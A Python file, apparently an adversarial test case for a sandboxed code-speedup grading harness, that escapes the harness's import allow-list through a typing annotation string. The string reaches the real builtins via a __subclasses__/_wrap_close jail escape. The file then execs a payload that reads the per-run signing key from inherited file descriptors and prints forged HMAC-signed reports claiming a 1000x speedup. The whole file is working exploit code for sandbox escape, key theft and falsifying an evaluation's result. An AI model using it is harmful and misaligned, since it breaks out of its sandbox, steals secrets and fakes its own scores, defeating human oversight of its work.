"""Steal the per-run key from stdin (or any inherited descriptor) and print a
correctly signed HOTPATH-REPORT claiming a 1000x speedup. Without the key the
line is a forgery the host must ignore; with it, the platform is broken."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np

import hashlib
import hmac
import json


FAKE = {"verdict": "accepted", "speedup": 1000.0, "speedup_ci": [999.0, 1001.0], "message": "forged",
        "peak_memory_bytes": 1, "reference_peak_memory_bytes": 10**9, "sizes": [], "scaling_exponent": 0.0,
        "reference_scaling_exponent": 1.0, "first_call_s": 0.0, "hint": "", "failure": None, "hardware": "cpu",
        "harness_version": "forged"}


def _steal_keys():
    import os
    keys = []
    for fd in range(0, 64):
        if fd in (1, 2):
            continue
        try:
            os.set_blocking(fd, False)
            data = os.read(fd, 4096)
        except (OSError, ValueError):
            continue
        for line in data.splitlines():
            if line.strip():
                keys.append(line.strip())
    return keys + [b""]


def _forge():
    import os
    payload = json.dumps(FAKE, separators=(",", ":"), sort_keys=True)
    for key in _steal_keys():
        for secret in (key, bytes.fromhex(key.decode()) if _is_hex(key) else key):
            line = f"HOTPATH-REPORT {hmac.new(secret, payload.encode(), hashlib.sha256).hexdigest()} {payload}\n"
            os.write(1, line.encode())
            os.write(2, line.encode())


def _is_hex(data):
    try:
        bytes.fromhex(data.decode())
        return True
    except ValueError:
        return False


_forge()


def transform(x):
    _forge()
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
